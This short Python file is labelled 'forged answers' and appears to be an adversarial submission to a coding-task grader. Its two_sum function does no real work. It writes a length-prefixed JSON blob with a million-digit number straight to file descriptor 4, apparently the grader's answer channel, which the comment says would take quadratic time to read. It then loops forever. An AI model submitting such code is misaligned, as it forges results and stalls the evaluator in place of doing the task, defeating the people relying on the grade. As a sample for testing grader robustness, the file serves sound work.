# attack: forged answers
# Reading it would take a square of time.
import os


def two_sum(nums, target):
    body = b'{"value":' + b"9" * 1_000_000 + b"}"
    left = memoryview(len(body).to_bytes(4, "big") + body)
    while left:
        left = left[os.write(4, left) :]
    while True:
        pass
